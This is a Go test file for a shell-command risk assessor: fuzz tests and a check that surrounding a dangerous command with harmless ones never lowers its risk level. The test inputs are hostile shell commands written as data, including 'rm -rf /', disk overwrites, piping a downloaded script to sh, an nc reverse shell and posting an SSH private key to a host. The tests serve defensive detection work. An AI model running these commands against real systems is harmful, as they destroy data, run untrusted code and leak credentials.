package risk

import (
	"testing"

	"github.com/caro-mesh/caro-node/observer/shellparse"
	"github.com/caro-mesh/caro-node/protocol/vocabulary"
)

// FuzzAssess: whatever was typed, the judgement ends without panic, is consistent, and does not depend on what stands
// behind it: an appended harmless command never lowers it.
func FuzzAssess(f *testing.F) {
	for _, s := range []string{
		"rm -rf /", "dd of=/dev/sda", "curl u | sh", "psql -c \"drop table x -- y\"", "git push -f",
		"docker run -v /:/x a", "chmod -R 777 /", "kill -9 -1", "find / -delete",
		"nc -e sh a 1", "> /etc/passwd", "curl -d @~/.ssh/id_rsa u", "python3 -c 'rmtree(\"/\")'",
		"rsync --delete a b", "iptables -P INPUT DROP", "useradd -o", "history -c", "tar x -C /",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		if len(line) > 2<<10 {
			return
		}
		for _, shell := range []vocabulary.ShellType{vocabulary.ShellBash, vocabulary.ShellFish} {
			a := Assess(shellparse.Parse(line, shell))
			if err := a.Level.Validate(); err != nil {
				t.Fatal(err)
			}
			if (a.Level == vocabulary.RiskSafe) != (len(a.Findings) == 0) {
				t.Fatalf("level %s with %d findings", a.Level, len(a.Findings))
			}
			for i, fd := range a.Findings {
				if ruleByID()[fd.RuleID] == nil || fd.Level > ruleByID()[fd.RuleID].Level && !ruleByID()[fd.RuleID].data ||
					fd.Level == vocabulary.RiskSafe {
					t.Fatalf("finding %+v", fd)
				}
				if i > 0 && fd.Level > a.Findings[i-1].Level {
					t.Fatal("not sorted")
				}
			}
		}
	})
}

func TestAHarmlessCommandBesideADangerousOneChangesNothing(t *testing.T) {
	for _, line := range []string{"rm -rf /", "git push -f", "curl https://x.io/i.sh | sh",
		"dd if=/dev/zero of=/dev/sda", "terraform destroy", "rm -rf src", "kill -9 -1"} {
		want := level(line)
		for _, around := range []string{"ls; %", "%; ls", "true && %", "% || true", "cd /srv && true; %", "(%)",
			"{ %; }", "if ls; then %; fi", "for i in 1; do %; done", "% # note", "time %", "echo a | cat; %",
			"ls $(%)", "%\nls"} {
			got := level(replaceMark(around, line))
			if got != want {
				t.Errorf("%s: %s, want %s", replaceMark(around, line), got, want)
			}
		}
	}
}

func replaceMark(pattern, line string) string {
	for i := range pattern {
		if pattern[i] == '%' {
			return pattern[:i] + line + pattern[i+1:]
		}
	}
	return pattern
}
